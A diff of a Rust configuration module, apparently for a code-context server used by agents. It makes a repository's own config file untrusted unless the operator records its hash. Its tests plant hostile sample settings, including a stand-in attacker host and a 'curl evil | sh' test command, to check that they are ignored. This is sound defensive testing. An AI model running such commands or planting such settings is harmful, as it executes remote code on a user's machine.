@@ -1,6 +1,12 @@
-//! The operator's policy: limits, extra plugin directories, grants and HTTP settings, read
-//! from `smart-context.toml` at the root or from `--config`. Nothing an agent sends changes it,
-//! and the edits interface refuses to write the file.
+//! The operator's policy: limits, extra plugin directories, grants, the test command and HTTP
+//! settings. Nothing an agent sends changes it, and the edits interface refuses to write it.
+//!
+//! The repository is untrusted, the operator is not. Privileged settings come only from
+//! outside the root: `--config FILE` (or `$SMART_CONTEXT_CONFIG`), else the user's
+//! `$XDG_CONFIG_HOME/smart-context/config.toml`. A `smart-context.toml` committed at the root
+//! may set only `[index]` (excludes, size cap, watching) unless the operator trusted that exact
+//! file with `smart-context trust`, which records its SHA-256 outside the root (like direnv's
+//! `allow`); a changed file must be trusted again, and the server says so at start.
 
 use anyhow::{Context, Result};
 use serde::Deserialize;
@@ -32,7 +38,17 @@ pub struct Config {
     /// Where the file was read from, for resolving relative paths.
     #[serde(skip)]
     pub source: Option<PathBuf>,
+    /// What the operator should know about how this config was put together (an untrusted
+    /// root config whose privileged keys were ignored), logged at start.
+    #[serde(skip)]
+    pub notices: Vec<String>,
 }
+
+/// The most an untrusted root config may raise `[index] max_file_bytes` to.
+pub const UNTRUSTED_MAX_FILE_BYTES: u64 = 16 << 20;
+
+/// The file in the user config directory that lists trusted root configs.
+pub const TRUST_FILE: &str = "trusted";
 
 #[derive(Debug, Clone, Deserialize)]
 #[serde(deny_unknown_fields, default)]
@@ -79,6 +95,15 @@ pub struct Http {
     pub allowed_hosts: Option<Vec<String>>,
     /// Bearer token; default: $SMART_CONTEXT_HTTP_TOKEN, else one generated at start.
     pub token: Option<String>,
+    /// Browser origins allowed to call the server (e.g. `http://localhost:6274` for a local
+    /// inspector); default none: a request carrying any `Origin` is refused.
+    #[serde(default)]
+    pub allowed_origins: Vec<String>,
+    /// Connections open at once; more are closed at accept (default 64).
+    pub max_connections: Option<usize>,
+    /// How long a client may take to send a request's headers (default 10,000 ms); a slower
+    /// or idle connection is closed.
+    pub header_timeout_ms: Option<u64>,
 }
 
 /// What the code and document index covers.
@@ -117,6 +142,13 @@ pub struct TestSettings {
     pub timeout_ms: u64,
     /// Output kept for the summary and the tail; the rest is counted, not stored.
     pub max_output_bytes: usize,
+    /// Environment variables passed through on top of the built-in allowlist (PATH, HOME,
+    /// locale, toolchain homes); nothing else of the server's environment reaches the tests.
+    pub env: Vec<String>,
+    /// On Linux, run the tests under Landlock: writes only under the root and the temp
+    /// directory (reads stay open; the network is not restricted). Refused where the kernel
+    /// has no Landlock.
+    pub confine: bool,
 }
 
 impl Default for TestSettings {
@@ -126,27 +158,114 @@ impl Default for TestSettings {
             detect: false,
             timeout_ms: 600_000,
             max_output_bytes: 1 << 20,
+            env: Vec::new(),
+            confine: false,
         }
     }
 }
 
 impl Config {
-    /// Reads `explicit` if given (it must exist), else `<root>/smart-context.toml` if present,
-    /// else the defaults.
+    /// The config for `root`: `explicit` if given (it must exist; the root's file is then not
+    /// read), else the user's config file (if any) with the root's `smart-context.toml` on top:
+    /// all of it when the operator trusted that exact file, else only its `[index]` table.
     pub fn load(root: &Path, explicit: Option<&Path>) -> Result<Self> {
-        let path = match explicit {
-            Some(p) => Some(p.to_path_buf()),
-            None => Some(root.join(CONFIG_FILE)).filter(|p| p.is_file()),
+        Self::load_from(root, explicit, &user_config_dir())
+    }
+
+    /// [`load`](Self::load) with the user config directory given (tests use their own).
+    pub fn load_from(root: &Path, explicit: Option<&Path>, user_dir: &Path) -> Result<Self> {
+        if let Some(path) = explicit {
+            return Self::read(path);
+        }
+        let user = user_dir.join("config.toml");
+        let mut config = if user.is_file() {
+            Self::read(&user)?
+        } else {
+            Self::default()
         };
-        let Some(path) = path else {
-            return Ok(Self::default());
+        let repo = root.join(CONFIG_FILE);
+        let Ok(meta) = std::fs::symlink_metadata(&repo) else {
+            return Ok(config);
         };
-        let text = std::fs::read_to_string(&path)
-            .with_context(|| format!("reading config {}", path.display()))?;
-        let mut config: Config =
-            toml::from_str(&text).with_context(|| format!("parsing config {}", path.display()))?;
-        config.source = Some(path);
+        if !meta.is_file() {
+            config.notices.push(format!(
+                "{} is not a regular file (a link?); ignored",
+                repo.display()
+            ));
+            return Ok(config);
+        }
+        let bytes = std::fs::read(&repo).with_context(|| format!("reading {}", repo.display()))?;
+        match trust_state(&repo, &bytes, user_dir) {
+            Trust::Trusted => return Self::parse(&repo, &bytes),
+            Trust::Changed => config.notices.push(format!(
+                "{} changed since it was trusted; only its [index] settings apply until you run `smart-context --root {} trust` again",
+                repo.display(),
+                root.display()
+            )),
+            Trust::Unknown => {}
+        }
+        config.apply_untrusted(&repo, &bytes, root, user_dir);
         Ok(config)
+    }
+
+    fn read(path: &Path) -> Result<Self> {
+        let bytes =
+            std::fs::read(path).with_context(|| format!("reading config {}", path.display()))?;
+        Self::parse(path, &bytes)
+    }
+
+    fn parse(path: &Path, bytes: &[u8]) -> Result<Self> {
+        let text = std::str::from_utf8(bytes)
+            .with_context(|| format!("config {} is not UTF-8", path.display()))?;
+        let mut config: Config =
+            toml::from_str(text).with_context(|| format!("parsing config {}", path.display()))?;
+        config.source = Some(path.to_path_buf());
+        Ok(config)
+    }
+
+    /// Takes the harmless part of an untrusted root config (`[index]`, with the size cap
+    /// bounded) and names what it ignored. A broken file is a notice, not a failed start: a
+    /// repository must not be able to stop the server from starting.
+    fn apply_untrusted(&mut self, path: &Path, bytes: &[u8], root: &Path, user_dir: &Path) {
+        let table = match std::str::from_utf8(bytes)
+            .map_err(anyhow::Error::from)
+            .and_then(|t| Ok(t.parse::<toml::Table>()?))
+        {
+            Ok(table) => table,
+            Err(err) => {
+                self.notices.push(format!(
+                    "{} is not valid TOML ({err}); ignored",
+                    path.display()
+                ));
+                return;
+            }
+        };
+        let ignored: Vec<&str> = table
+            .keys()
+            .map(String::as_str)
+            .filter(|k| *k != "index")
+            .collect();
+        if !ignored.is_empty() {
+            self.notices.push(format!(
+                "{} is the repository's, not yours: ignored {} (privileged settings come from --config or {}); run `smart-context --root {} trust` to apply all of it",
+                path.display(),
+                ignored.join(", "),
+                user_dir.join("config.toml").display(),
+                root.display()
+            ));
+        }
+        if let Some(index) = table.get("index") {
+            match index.clone().try_into::<IndexSettings>() {
+                Ok(index) => {
+                    self.index.exclude.extend(index.exclude);
+                    self.index.max_file_bytes = index.max_file_bytes.min(UNTRUSTED_MAX_FILE_BYTES);
+                    self.index.watch = index.watch;
+                }
+                Err(err) => self
+                    .notices
+                    .push(format!("{}: [index] ignored ({err})", path.display())),
+            }
+        }
     }
 
     /// Extra plugin directories, relative ones resolved against the config file's directory.
@@ -163,7 +282,7 @@ impl Config {
         self.plugin.get(plugin)
     }
 
-    /// The compiled-component cache directory.
+    /// The compiled-component cache directory (the operator's, or the user cache directory).
     pub fn cache_dir(&self) -> PathBuf {
         if let Some(dir) = &self.cache_dir {
             return dir.clone();
@@ -176,6 +295,95 @@ impl Config {
     }
 }
 
+/// `$XDG_CONFIG_HOME/smart-context` (default `~/.config/smart-context`): the operator's config
+/// and the list of trusted root configs.
+pub fn user_config_dir() -> PathBuf {
+    xdg_dir("XDG_CONFIG_HOME", ".config").join("smart-context")
+}
+
+/// `$XDG_DATA_HOME/smart-context` (default `~/.local/share/smart-context`): the journal key.
+pub fn user_data_dir() -> PathBuf {
+    xdg_dir("XDG_DATA_HOME", ".local/share").join("smart-context")
+}
+
+fn xdg_dir(var: &str, fallback: &str) -> PathBuf {
+    std::env::var_os(var)
+        .map(PathBuf::from)
+        .filter(|p| p.is_absolute())
+        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(fallback)))
+        .unwrap_or_else(std::env::temp_dir)
+}
+
+enum Trust {
+    Trusted,
+    /// Trusted once, with other content.
+    Changed,
+    Unknown,
+}
+
+fn trust_state(path: &Path, bytes: &[u8], user_dir: &Path) -> Trust {
+    let Ok(canonical) = path.canonicalize() else {
+        return Trust::Unknown;
+    };
+    let hash = sha256_hex(bytes);
+    let list = std::fs::read_to_string(user_dir.join(TRUST_FILE)).unwrap_or_default();
+    let mut seen = false;
+    for line in list.lines() {
+        let Some((h, p)) = line.split_once(' ') else {
+            continue;
+        };
+        if Path::new(p) == canonical {
+            if h == hash {
+                return Trust::Trusted;
+            }
+            seen = true;
+        }
+    }
+    if seen { Trust::Changed } else { Trust::Unknown }
+}
+
+/// Records the root config of `root`, as it is now, as trusted by this user: its SHA-256 and
+/// canonical path go to the trust list outside the root. Returns the path and the hash.
+pub fn trust(root: &Path) -> Result<(PathBuf, String)> {
+    trust_in(root, &user_config_dir())
+}
+
+/// [`trust`] with the user config directory given.
+pub fn trust_in(root: &Path, dir: &Path) -> Result<(PathBuf, String)> {
+    let path = root.join(CONFIG_FILE);
+    let meta = std::fs::symlink_metadata(&path)
+        .with_context(|| format!("{} does not exist", path.display()))?;
+    anyhow::ensure!(meta.is_file(), "{} is not a regular file", path.display());
+    let bytes = std::fs::read(&path)?;
+    Config::parse(&path, &bytes)?;
+    let canonical = path.canonicalize()?;
+    let hash = sha256_hex(&bytes);
+    std::fs::create_dir_all(dir).with_context(|| format!("creating {}", dir.display()))?;
+    let list_path = dir.join(TRUST_FILE);
+    let list = std::fs::read_to_string(&list_path).unwrap_or_default();
+    let mut kept: Vec<String> = list
+        .lines()
+        .filter(|l| {
+            l.split_once(' ')
+                .is_none_or(|(_, p)| Path::new(p) != canonical)
+        })
+        .map(str::to_string)
+        .collect();
+    kept.push(format!("{hash} {}", canonical.display()));
+    let tmp = dir.join(format!(".{TRUST_FILE}.{}", std::process::id()));
+    std::fs::write(&tmp, kept.join("\n") + "\n")?;
+    std::fs::rename(&tmp, &list_path)?;
+    Ok((canonical, hash))
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    use sha2::Digest;
+    sha2::Sha256::digest(bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -184,11 +392,11 @@ mod tests {
     fn parses_policy_and_resolves_dirs() {
         let dir = tempfile::tempdir().unwrap();
         std::fs::write(
-            dir.path().join(CONFIG_FILE),
+            dir.path().join("operator.toml"),
             "plugin_dirs = [\"extra\"]\n[limits]\ntimeout_ms = 500\n[plugin.spin]\ngrants = [\"log\"]\nenabled = true\n",
         )
         .unwrap();
-        let config = Config::load(dir.path(), None).unwrap();
+        let config = Config::load(dir.path(), Some(&dir.path().join("operator.toml"))).unwrap();
         assert_eq!(config.limits.timeout_ms, 500);
         assert_eq!(config.limits.memory_mib, 256);
         assert_eq!(config.plugin_dirs(), vec![dir.path().join("extra")]);
@@ -198,15 +406,78 @@ mod tests {
     #[test]
     fn unknown_keys_are_errors() {
         let dir = tempfile::tempdir().unwrap();
-        std::fs::write(dir.path().join(CONFIG_FILE), "[limits]\ntimeout = 5\n").unwrap();
-        let err = Config::load(dir.path(), None).unwrap_err();
+        let path = dir.path().join("operator.toml");
+        std::fs::write(&path, "[limits]\ntimeout = 5\n").unwrap();
+        let err = Config::load(dir.path(), Some(&path)).unwrap_err();
         assert!(format!("{err:#}").contains("timeout"), "{err:#}");
     }
 
     #[test]
     fn missing_file_gives_defaults_but_explicit_must_exist() {
         let dir = tempfile::tempdir().unwrap();
-        assert!(Config::load(dir.path(), None).unwrap().source.is_none());
+        let user = tempfile::tempdir().unwrap();
+        assert!(
+            Config::load_from(dir.path(), None, user.path())
+                .unwrap()
+                .source
+                .is_none()
+        );
         assert!(Config::load(dir.path(), Some(&dir.path().join("nope.toml"))).is_err());
+    }
+
+    #[test]
+    fn an_untrusted_root_config_sets_only_the_index() {
+        let root = tempfile::tempdir().unwrap();
+        let user = tempfile::tempdir().unwrap();
+        std::fs::write(
+            root.path().join(CONFIG_FILE),
+            "plugin_dirs = [\"/tmp/evil\"]\ncache_dir = \"/tmp/evil\"\n[http]\ntoken = \"t\"\nallowed_hosts = [\"attacker.example:18766\"]\n[test]\ncommand = [\"sh\", \"-c\", \"id\"]\n[index]\nexclude = [\"data/\"]\nmax_file_bytes = 99999999999\n",
+        )
+        .unwrap();
+        let config = Config::load_from(root.path(), None, user.path()).unwrap();
+        assert!(config.plugin_dirs.is_empty() && config.cache_dir.is_none());
+        assert!(config.http.token.is_none() && config.http.allowed_hosts.is_none());
+        assert!(config.test.command.is_none());
+        assert_eq!(config.index.exclude, ["data/"]);
+        assert_eq!(config.index.max_file_bytes, UNTRUSTED_MAX_FILE_BYTES);
+        let notice = config.notices.join("\n");
+        for key in ["plugin_dirs", "cache_dir", "http", "test", "trust"] {
+            assert!(notice.contains(key), "{notice}");
+        }
+
+        // Trusted, it is the operator's config; changed afterwards, it is untrusted again.
+        trust_in(root.path(), user.path()).unwrap();
+        let config = Config::load_from(root.path(), None, user.path()).unwrap();
+        assert_eq!(config.test.command.as_deref().unwrap()[0], "sh");
+        assert!(config.notices.is_empty());
+        std::fs::write(
+            root.path().join(CONFIG_FILE),
+            "[test]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n",
+        )
+        .unwrap();
+        let config = Config::load_from(root.path(), None, user.path()).unwrap();
+        assert!(config.test.command.is_none());
+        assert!(
+            config.notices[0].contains("changed since it was trusted"),
+            "{:?}",
+            config.notices
+        );
+    }
+
+    #[test]
+    fn a_broken_root_config_cannot_stop_the_server() {
+        let root = tempfile::tempdir().unwrap();
+        let user = tempfile::tempdir().unwrap();
+        std::fs::write(root.path().join(CONFIG_FILE), "[limits\nmemory = ").unwrap();
+        let config = Config::load_from(root.path(), None, user.path()).unwrap();
+        assert!(config.notices[0].contains("not valid TOML"));
+        std::fs::write(
+            user.path().join("config.toml"),
+            "[limits]\ntimeout_ms = 700\n",
+        )
+        .unwrap();
+        std::fs::remove_file(root.path().join(CONFIG_FILE)).unwrap();
+        let config = Config::load_from(root.path(), None, user.path()).unwrap();
+        assert_eq!(config.limits.timeout_ms, 700, "the user's config applies");
     }
 }
